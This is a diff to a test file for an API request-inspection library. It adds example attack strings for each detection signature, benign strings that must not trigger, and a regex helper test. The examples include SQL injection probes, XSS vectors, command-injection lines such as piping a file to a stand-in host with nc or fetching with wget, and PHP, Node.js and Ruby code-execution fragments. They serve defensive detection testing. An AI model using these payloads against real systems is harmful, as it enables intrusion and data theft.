@@ -9,7 +9,7 @@ import pytest
 from apishield.checks.decode import variants
 from apishield.checks.matcher import default_matcher
 from apishield.checks.signatures import CLASSES, SIGNATURES, Signature
-from apishield.checks.signatures.base import confine
+from apishield.checks.signatures.base import confine, spread
 from apishield.exchange import Severity
 
 EXAMPLES: dict[str, tuple[str, ...]] = {
@@ -26,9 +26,19 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.sqli.subquery": ("3 and ascii(substring(user(),1,1))>64",),
     "inj.sqli.sql-function": ("GROUP_CONCAT(email)", "1 and database()"),
     "inj.sqli.postgres-cast": ("(select version())::int", 'x\'::jsonb @> \'{"role":"admin"}'),
-    "inj.sqli.sql-clause": ("1 and case when 1=1 then 1 else 0 end",),
+    "inj.sqli.sql-clause": (
+        "1 and case when 1=1 then 1 else 0 end",
+        "procedure analyse()",
+        "1.e(ascii(1))",
+        "create function f returns int soname 'udf.so'",
+    ),
     "inj.sqli.order-by-probe": ("2 order by 12--",),
     "inj.sqli.char-concat": ("char(97)+char(100)+char(109)",),
+    "inj.sqli.function-probe": ("md5(", "POW(2", "concat (0x71"),
+    "inj.sqli.catalogue-name": ("msdb..sysfiles", "Northwind", "select v$version"),
+    "inj.sqli.json-operator": ("""'{"a":"b"}' ? 'a'""", """'[1,2]' < '$[0]' = 1"""),
+    "inj.sqli.quote-negation": ('"!"', "Xunionselectfrom", '6 As" from'),
+    "inj.sqli.quote-operator": ("A' OR 'B", "'RLIKE'", "x' NOT LIKE 'y"),
     "inj.xss.script-tag": ("<script>fetch('/x')</script>", "<ScRiPt src=//e.example>"),
     "inj.xss.event-handler": ("<img src=x onerror=print()>", "<details open ontoggle=go()>"),
     "inj.xss.attribute-breakout": ('" onfocus="steal()" autofocus x="',),
@@ -40,6 +50,11 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.xss.css-expression": ("width: expression(run())", "-moz-binding:url(x.xml#y)"),
     "inj.xss.style-injection": ('<p style="background:url(//e.example/x)">', "<b datasrc=#x>"),
     "inj.xss.html-comment-breakout": ("--><img src=1>", "</title><b>"),
+    "inj.xss.obfuscated-script-uri": ("ja&tab;vascript:go()", "v&newline;bscript&colon;x"),
+    "inj.xss.spaced-tag": ("<f o r m action=//e.example>", "<d i a l o g open>"),
+    "inj.xss.high-bit-markup": ("%BCscript%BEgo()%BC/script%BE", "\\xbcsvg onload=x\\xbe"),
+    "inj.xss.generic-handler": ("x onfreshevent=run()", '" onanything= '),
+    "inj.xss.attribute-vector": ('<a xlink:href="//e.example">', "<button formaction=//x>"),
     "inj.rce.chained-command": ("8.8.8.8; uname -a", "file.txt | nc e.example 9", "a && whoami"),
     "inj.rce.leading-command": ("ping -c 3 10.0.0.1", "nohup wget e.example"),
     "inj.rce.command-substitution": ("$(id)", "name=`whoami`"),
@@ -89,8 +104,9 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.crlf.header-injection": ("en%0d%0aSet-Cookie: sid=1", "x\r\nLocation: //e.example"),
     "inj.crlf.response-splitting": ("a%0d%0aHTTP/1.1 200 OK", "b\n\n<html>"),
     "inj.crlf.encoded-break": ("x%250d%250aSet-Cookie:a",),
-    "inj.php.open-tag": ("<?php echo 1; ?>", "<?= $x ?>"),
+    "inj.php.open-tag": ("<?php echo 1; ?>", "<?= $x ?>", "<?echo 1;?>", "<?xml :echo 1;"),
     "inj.php.function-call": ("shell_exec('id')", "system($_GET[c])"),
+    "inj.php.include-statement": ('require_once "x.php";', "${'_GET'}", "__halt_compiler();"),
     "inj.php.variable-function": ("$f($arg)", "('sys'.'tem')('id')"),
     "inj.php.bbcode-tag": ("[php]phpinfo()[/php]",),
     "inj.php.superglobal": ("$_SERVER['HTTP_HOST']",),
@@ -98,6 +114,13 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.php.serialized-object": ('O:4:"User":1:{s:4:"role";s:5:"admin";}',),
     "inj.php.serialized-array": ('a:1:{i:0;s:1:"x";}',),
     "inj.php.upload-script": ("avatar.php.jpg", "shell.phtml", ".htaccess"),
+    "inj.xss.tag-breakout": ('"><img src=x>', "'/><b>", "a.parentNode.remove()"),
+    "inj.xss.html-tag": ("<bgsound src=x>", "<svg><animate attributeName=href>"),
+    "inj.php.extension-call": ("array_diff (", "pg_enter_pipeline_mode()", "sodium_x//c\n("),
+    "inj.php.comment-call": ("touch/*a*/()", "range /*x*/ ()", "symbol#c\n()"),
+    "inj.php.ini-directive": ("memory_limit = 512M", "extension=evil.so", "mbstring.language=x"),
+    "inj.php.spaced-superglobal": ("$_S ERVER['REQUEST_URI']", "$_G E T[x]"),
+    "inj.php.data-wrapper": ("data:text/plain;base64,PD9waHAgPz4=", "data://text/plain,<?php"),
     "inj.java.runtime-exec": ("java.lang.Runtime", "new ProcessBuilder(cmd)"),
     "inj.java.java-class": ("java.net.URLClassLoader", "javax.naming.InitialContext"),
     "inj.java.framework-class": ("com.opensymphony.xwork2.ActionContext", "org.apache.tomcat.x"),
@@ -108,6 +131,29 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.java.class-loader": ("class.module.classLoader.resources.context.parent",),
     "inj.java.upload-jsp": ("cmd.jsp.", "page.jspx.png"),
     "inj.java.exec-call": ("r.exec('id')",),
+    "inj.nodejs.node-serialize": ('{"x":"_$$ND_FUNC$$_function(){}()"}',),
+    "inj.nodejs.node-module": ("require('child_process').exec('id')", "process.env", "x=require;"),
+    "inj.nodejs.endless-loop": ("while(true);", "while(!0)", "for(;;){}", "while(-Infinity)"),
+    "inj.nodejs.js-code": (
+        "function(){ return 1 }()",
+        "this.constructor",
+        "[].constructor.constructor",
+    ),
+    "inj.nodejs.node-base64": (
+        "eyJyY2UiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXt9KCkifQ==",
+        "d2hpbGUodHJ1ZSk7Cg==",
+    ),
+    "inj.prototype_pollution.proto-key": ("__proto__[admin]", "constructor.prototype.isAdmin"),
+    "inj.perl.interpolation": ("@{[system 'id']}", "@@{ [ `id` ] }"),
+    "inj.ruby.ruby-exec": ('Process.spawn("id")', "Kernel.exec('id')", "%x{id}"),
+    "inj.session_fixation.cookie-set": (
+        'document.cookie="sid=1; domain=.e.example"',
+        '<meta http-equiv="Set-Cookie" content="sid=1">',
+    ),
+    "inj.scanner.scanner-agent": (
+        "sqlmap/1.7.2#stable (https://sqlmap.org)",
+        "Mozilla/5.0 zgrab/0.x",
+    ),
 }
 
 BENIGN = (
@@ -143,6 +189,30 @@ BENIGN = (
     "https://api.example.com/v1.2/users/42",
     "10.5% off; valid until Sunday",
     "a < b and c > d",
+    "while (foo) is bar.",
+    "while(false) { }",
+    "The process. Next step",
+    "urlgrabber/3.10 yum/3.4.3",
+    "The constructor of the prototype car",
+    '"foo" AND "bar" AND',
+    'BILLEEVERSBOUTIQUE , BROWNING "LIKE"',
+    "flying to an altitude of convert (0.46 miles)",
+    "Price in Rand (ZAR)",
+    "left up (for right handed users)",
+    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg",
+    "Java script: a beginner's guide",
+    "Hello @{name}, welcome",
+    "memory limit = 512M",
+    "xcheckdate()",
+    "t=1614308115,v1=5257a869e7ecebeda32a",
+    "Jenny Nessus",
+    "user(s) to invite",
+    "de_matten sitzbez\\xc3\\xbcge > fu\\xc3\\x9fmatten",
+    'V1_OTHER_1"><IMG CLASS="SIZE-FULL WP-IMAGE-2764',
+    "<xmpmeta> @importance",
+    '<?xml version="1.0"?><?xpacket end="w"?><?mso-application progid="Word.Document"?>',
+    "Please include the invoice.pdf file",
+    "mail (letters) arrive daily",
 )
 
 
@@ -193,3 +263,15 @@ def test_confine_keeps_patterns_off_the_newline() -> None:
     assert confine(r"[^\n]") == "[^\\n\\n]"
     assert confine(r"^a$") == "\\na\\n"
     assert confine(r"[$^]") == "[$^]"
+
+
+def test_spread_needs_a_break_inside_the_word() -> None:
+    pattern = spread("form", r"\s")
+    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+    database.compile(expressions=[pattern.encode()], flags=[hyperscan.HS_FLAG_CASELESS])
+    found: list[int] = []
+    for text in (b"f o r m", b"fo rm", b"form"):
+        hits: list[int] = []
+        database.scan(text, match_event_handler=lambda *args, hits=hits: hits.append(1))
+        found.append(len(hits))
+    assert found[0] and found[1] and not found[2]
